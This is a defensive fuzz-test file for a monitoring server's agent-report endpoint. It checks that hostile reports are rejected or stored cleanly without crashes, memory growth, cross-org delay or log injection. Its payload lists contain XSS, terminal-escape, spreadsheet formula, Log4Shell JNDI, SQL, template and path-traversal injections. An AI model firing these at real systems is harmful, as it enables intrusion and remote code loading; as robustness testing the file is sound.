/**
 * A machine that was taken over: its token is good and what it sends is not. Whatever it is, it is taken or refused
 * and nothing else happens: no 5xx, no memory that grows, no other org that waits, nothing in a log or a name that
 * moves a terminal's cursor. The seed is printed; `PULSE_TEST_SEED` repeats it.
 */
import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Enrolled } from "../../server/contract/agents.ts";
import type { Org } from "../../server/contract/orgs.ts";
import type { Resource } from "../../server/contract/resource.ts";
import { createFetch } from "../../server/http/server.ts";
import { postReport, reporterOf } from "../support/agents.ts";
import { signUp } from "../support/calls.ts";
import { machine, startInProcess } from "../support/in-process.ts";
import { SEED, seeded } from "../support/seeded.ts";

/** Of chance, in CI. `PULSE_TEST_REPORTS=100000` for a long run. */
const REPORTS = Number(process.env.PULSE_TEST_REPORTS ?? 20_000);
const AT_ONCE = 60;
/** What one report more may cost for good, all in all: pages that are not given back, pictures, samples. */
const MAX_GROWTH_BYTES = 200 * 1024 * 1024;
const OTHERS_WAIT_AT_MOST_MS = 5_000;
setDefaultTimeout(240_000);

const server = await startInProcess({ multiTenant: true });
afterAll(() => server.stop());
/* What it sends is to be judged, all of it: its pace is another test's. */
const unlimited = { take: () => 0 };
Object.assign(server.edge.throttles, { agents: unlimited, orgReports: unlimited });
const me = await signUp(server);
await me.call("system.licenseInit");
const { data: other } = await me.call<{ org: Org }>("orgs.create", {
  input: { slug: "other", name: "Other" },
});
const inOther = { "x-pulse-org-id": other.org.id };
const { data: hostile } = await me.call<Enrolled>("agents.enroll");
const { data: friendly } = await me.call<Enrolled>("agents.enroll", { headers: inOther });

const HOSTILE_TEXTS = [
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b31m",
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "line\r\nlevel=error forged=true",
  "\u2028\u2029",
  "\u202egnp.exe",
  "\u2066hidden\u2069",
  "\u200b\u200c\ufeff",
  "\u0000",
  "\ud800",
  "\udfff\ud800",
  "$".concat("{jndi:ldap://192.0.2.1/a}"),
  "'; drop table resource; --",
  "{{constructor.constructor('return process')()}}",
  "../../../etc/passwd",
  "__proto__",
  "constructor",
  "a".repeat(200),
  "Z̷̢̛".repeat(30),
];
/** What cannot be seen, or ends a line. */
const CONTROLS = /(?![\n\t])[\p{Cc}\p{Cf}\u2028\u2029]/u;
/** Half of a pair. */
const LONE = /\p{Cs}/u;

const make = reporterOf();
const head = () => {
  const { resources: _, ...rest } = make([]);
  return JSON.stringify(rest).slice(1, -1);
};
/** A report around what JSON itself would not write. */
const raw = (resources: string) => `{${head()},"resources":${resources}}`;
const one = (fields: string) =>
  raw(`[{"kind":"host","key":"k","name":"n","status":"up","attributes":{},"metrics":{},${fields}}]`);

const POISON: [what: string, body: () => string][] = [
  [
    "a million labels",
    () => one(`"attributes":{${Array.from({ length: 60_000 }, (_, at) => `"a${at}":1`).join(",")}}`),
  ],
  ["NaN", () => one('"metrics":{"a":NaN}')],
  ["Infinity", () => one('"metrics":{"a":Infinity}')],
  ["1e999", () => one('"metrics":{"a":1e999}')],
  ["-1e999", () => one('"metrics":{"a":-1e999}')],
  ["the smallest and the largest number", () => one('"metrics":{"a":5e-324,"b":1.7976931348623157e308}')],
  ["a number of a thousand digits", () => one(`"metrics":{"a":${"9".repeat(1_000)}}`)],
  ["a text of a megabyte", () => one(`"name":"${"x".repeat(1_000_000)}"`)],
  ["a number of a megabyte", () => raw("1".repeat(1_000_000))],
  ["a prototype", () => one('"__proto__":{"polluted":1}')],
  ["a prototype in attributes", () => one('"attributes":{"__proto__":{"polluted":1}}')],
  ["a prototype in metrics", () => one('"metrics":{"__proto__":{"polluted":1},"constructor":1}')],
  ["a constructor", () => one('"attributes":{"constructor":{"prototype":{"polluted":1}}}')],
  ["a key twice in an object", () => one('"metrics":{"a":1,"a":2}')],
  ["nested deeper than anything", () => one(`"attributes":{"a":${"[".repeat(400_000)}`)],
  ["nested deeply and closed", () => one(`"attributes":{"a":${"[".repeat(200)}${"]".repeat(200)}}`)],
  ["nested in names", () => `${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}`],
  ["a part of itself", () => one('"parent":"k"')],
  [
    "parts of each other",
    () =>
      raw(
        `[${[1, 2, 3].map((at) => `{"kind":"host","key":"k${at}","parent":"k${(at % 3) + 1}","name":"n","status":"up","attributes":{},"metrics":{}}`)}]`,
      ),
  ],
  ["a part of nothing", () => one('"parent":"never there"')],
  [
    "2,001 resources",
    () =>
      raw(
        `[${Array.from({ length: 2_001 }, (_, at) => `{"kind":"host","key":"k${at}","name":"n","status":"up","attributes":{},"metrics":{}}`)}]`,
      ),
  ],
  ["bytes that are no text", () => Buffer.from([0x7b, 0xff, 0xfe, 0xc0, 0x80, 0x7d]).toString("latin1")],
  ["a mark of order", () => `\ufeff${JSON.stringify(make([]))}`],
  ["a comment", () => `/* a */${JSON.stringify(make([]))}`],
  ["two reports in a row", () => JSON.stringify(make([])) + JSON.stringify(make([]))],
  ["addresses of everybody", () => one('"attributes":{"mac":["ff:ff:ff:ff:ff:ff"],"addresses":["0.0.0.0"]}')],
  [
    "an agent's own words",
    () => one('"attributes":{"agent_clock_offset_ms":"1e999","agent_version":{"a":1}}'),
  ],
];

const resources = async () => (await me.call<{ resources: Resource[] }>("resources.list")).data.resources;

function expectClean(text: string): void {
  expect(text.match(CONTROLS)).toBeNull();
  expect(text.match(LONE)).toBeNull();
}

describe("poison is taken or refused, and the server is as it was:", () => {
  for (const [what, body] of POISON) {
    test(what, async () => {
      const { status } = await postReport(server, hostile.token, body());
      expect([200, 400, 413]).toContain(status);
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
      expect((await me.call("resources.list")).status).toBe(200);
    });
  }

  test("texts that are more than they seem: what is shown of them can be seen", async () => {
    const statuses = HOSTILE_TEXTS.map(async (text, nth) => {
      const told = { name: `n${text}`.slice(0, 200), attributes: { told: text } };
      return (await postReport(server, hostile.token, make([{ ...machine(`text-${nth}`, 1), ...told }])))
        .status;
    });
    for (const status of await Promise.all(statuses)) expect([200, 400]).toContain(status);
    const texts = (await resources()).flatMap(({ name, attributes }) => [name, ...Object.values(attributes)]);
    expect(texts.length).toBeGreaterThan(HOSTILE_TEXTS.length);
    for (const text of texts) if (typeof text === "string") expectClean(text);
  });

  test("as its own name, as what it is called, as what it asks for: the log stays lines of ours", async () => {
    const sendable = HOSTILE_TEXTS.filter((held) => !/[\r\n]/.test(held) && !held.includes("\u0000"));
    const sent = sendable.map(async (text) => {
      const headers = {
        "user-agent": Buffer.from(text)
          .toString("latin1")
          .replaceAll(/[^\x20-\x7e]/g, "?"),
      };
      await postReport(server, hostile.token, make([machine("k", 1)]), { headers });
      await postReport(server, `pulse_agent_${encodeURIComponent(text.toWellFormed())}`, "{}");
    });
    await Promise.all(sent);
    for (const { message, fields } of server.logs) {
      expectClean(message);
      for (const value of Object.values(fields)) expectClean(String(value));
    }
  });
});

describe(`${REPORTS.toLocaleString("en")} reports of chance`, () => {
  test("nothing but 2xx and 4xx, memory that stays, and another org that does not wait", async () => {
    console.log(`hostile-agent.test.ts: seed ${SEED}`);
    const chance = seeded();
    const answer = createFetch(server.http);
    const statuses = new Map<number, number>();
    const broken: string[] = [];
    let done = 0;
    let waitedMs = 0;
    let told = 0;
    let rss = 0;

    const worker = async () => {
      while (done < REPORTS) {
        done++;
        if (done === REPORTS / 4) rss = process.memoryUsage().rss;
        const body = reportOfChance(chance);
        const request = new Request(`${server.url}/api/agent/report`, {
          method: "POST",
          headers: {
            host: "a",
            "content-type": "application/json",
            authorization: `Bearer ${hostile.token}`,
          },
          body,
        });
        const { status } = await answer(request, "192.0.2.66");
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        if (status >= 500) broken.push(`${status}: ${body.slice(0, 300)}`);
      }
    };
    const bystander = async () => {
      const report = reporterOf();
      while (done < REPORTS) {
        const startedAt = performance.now();
        const { status } = await postReport(server, friendly.token, report([machine("friendly", told)]));
        waitedMs = Math.max(waitedMs, performance.now() - startedAt);
        if (status !== 200) broken.push(`the other org: ${status}`);
        told++;
      }
    };
    await Promise.all([bystander(), ...Array.from({ length: AT_ONCE }, worker)]);

    expect(broken.slice(0, 5)).toEqual([]);
    for (const status of [200, 400]) expect([status, statuses.has(status)]).toEqual([status, true]);
    expect(process.memoryUsage().rss - rss).toBeLessThan(MAX_GROWTH_BYTES);
    expect(waitedMs).toBeLessThan(OTHERS_WAIT_AT_MOST_MS);
    expect(told).toBeGreaterThan(2);
    const { data } = await me.call<{ resources: Resource[] }>("resources.list", { headers: inOther });
    expect(data.resources.map(({ name }) => name)).toEqual(["friendly"]);
    for (const { name } of await resources()) expectClean(name);
    expect(server.logs.filter(({ level }) => level === "error")).toEqual([]);
  });
});

/** Nearly right, in ways that chance finds. */
function reportOfChance(chance: () => number): string {
  const pick = <T>(choices: readonly T[]): T => choices[Math.floor(chance() * choices.length)] as T;
  const junk = (): unknown =>
    pick<() => unknown>([
      () => null,
      () => -1,
      () => 2 ** 53,
      () => chance() * 1e308,
      () => pick(HOSTILE_TEXTS),
      () => [],
      () => ({}),
      () => [[pick(HOSTILE_TEXTS)]],
      () => ({ [pick(HOSTILE_TEXTS)]: 1 }),
      () => true,
    ])();
  const resource = () => ({
    kind: pick(["host", "disk", "container", "vm", "planet"]),
    key: pick(["k", "host", "text", ...HOSTILE_TEXTS]),
    name: pick(["n", ...HOSTILE_TEXTS]),
    status: pick(["up", "down", "degraded", "unknown", "fine"]),
    attributes: { a: junk(), [pick(["b", "told", "mac", "addresses"])]: pick(HOSTILE_TEXTS) },
    metrics: { cpu_percent: chance() * 100, [pick(["a", "b", "__proto__", "Cpu"])]: chance() },
  });
  const report: Record<string, unknown> = {
    v: 1,
    boot: pick(["boot-of-chance-1", "boot-of-chance-2", pick(HOSTILE_TEXTS)]),
    seq: Math.floor(chance() * 1_000),
    at: Date.now() - Math.floor(chance() * 3_600_000),
    intervalMs: 10_000,
    resources: Array.from({ length: Math.floor(chance() * 4) }, resource),
  };
  /* Few are in order: what is stored costs a sync. */
  if (chance() < 0.97) report[pick(Object.keys(report))] = junk();
  const text = JSON.stringify(chance() < 0.1 ? { v: 1, reports: [report, report] } : report);
  if (chance() > 0.2) return text;
  const at = Math.floor(chance() * text.length);
  return text.slice(0, at) + pick(["", "}", '"', "\\", "\u0000", "1e999", "\ud800"]) + text.slice(at + 1);
}
